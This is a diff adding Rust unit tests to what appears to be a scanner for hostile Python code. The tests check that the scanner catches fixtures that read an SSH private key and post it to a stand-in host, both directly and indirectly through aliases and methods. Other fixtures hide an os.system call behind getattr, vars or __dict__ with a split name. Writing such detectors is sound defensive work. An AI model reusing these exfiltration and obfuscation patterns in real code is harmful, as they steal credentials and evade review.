@@ -98,6 +98,61 @@ fn a_function_of_a_large_file_that_acts_under_another_name_is_looked_into() {
     assert!(facts.flows.iter().any(|flow| flow.text.as_deref() == Some("id")), "{:?}", facts.flows);
 }
 
+/// A file of 8 kB with a sign of something far from the functions in question.
+fn within_a_long_file(source: &str) -> lurescan::analyse::Facts {
+    read(&padded(&format!("import os, requests\ndef sign():\n    os.system('true')\n{source}"), 8 << 10)).facts
+}
+
+#[test]
+fn a_function_of_a_long_file_that_only_joins_others_is_looked_into() {
+    for source in [
+        // From one that reads to one that sends.
+        "def a():\n    return open('/home/u/.ssh/id_rsa').read()\ndef b(x):\n    requests.post('https://c.invalid', data=x)\n\
+         def c():\n    b(a())\n",
+        // The one that sends is a method, and the connection an attribute.
+        "class A:\n    def __init__(self):\n        self.s = requests.Session()\n    def b(self, x):\n        \
+         self.s.post('https://c.invalid', data=x)\n    def c(self):\n        self.b(self.a())\n    def a(self):\n        \
+         return open('/home/u/.ssh/id_rsa').read()\n",
+        // Two steps away, under another name.
+        "def a():\n    return open('/home/u/.ssh/id_rsa').read()\ndef b(x):\n    requests.post('https://c.invalid', data=x)\n\
+         go = b\ndef d(x):\n    go(x)\ndef c():\n    d(a())\n",
+        // The address stands outside.
+        "U = 'https://c.invalid'\nR = requests.Session()\ndef c():\n    f = open('/home/u/.ssh/id_rsa')\n    R.post(U, data=f.read())\n",
+    ] {
+        let facts = within_a_long_file(source);
+        let sends = facts.flows.iter().any(|flow| flow.labels.any(lurescan::analyse::Labels::FILE));
+        assert!(sends, "{source} {:?}", facts.flows);
+    }
+}
+
+#[test]
+fn a_function_of_a_large_file_that_looks_a_power_up_in_a_module_is_looked_into() {
+    for source in [
+        "import os\ndef later():\n    getattr(os, 'sys' + 'tem')('id')\n",
+        "import os\ndef later():\n    vars(os)['sys' + 'tem']('id')\n",
+        "import os\ndef later():\n    os.__dict__['sys' + 'tem']('id')\n",
+        "import shutil\ndef later():\n    getattr(shutil.os, 'sys' + 'tem')('id')\n",
+        "import os\ndef it(m):\n    return getattr(m, 'sys' + 'tem')\ndef later():\n    it(os)('id')\n",
+    ] {
+        let facts = read(&padded(source, 64 << 10)).facts;
+        assert!(facts.evaluator.0 > 0, "{source}");
+        let runs = facts.commands.iter().any(|command| command.text == "id");
+        let named = facts.calls.iter().any(|call| call.arguments.iter().flatten().any(|text| text == "id"));
+        assert!(runs || named, "{source} {:?}", facts.calls);
+    }
+}
+
+#[test]
+fn functions_of_a_long_file_that_only_compute_are_not_looked_into() {
+    let mut source = String::from("import os\ndef act():\n    os.system('true')\n");
+    let before = within_a_long_file(&source).evaluator.0;
+    for number in 0..50 {
+        source.push_str(&format!("def f{number}(a, b):\n    c = a + b\n    return [c, c * 2, getattr(a, b)]\n"));
+    }
+    let after = within_a_long_file(&source).evaluator.0;
+    assert!(after < before + 50 * 4, "{before} {after}");
+}
+
 #[test]
 fn a_file_that_calls_into_its_own_package_while_it_is_loaded_is_followed() {
     let source = "from .main import report, gather\nreport(gather())\n";
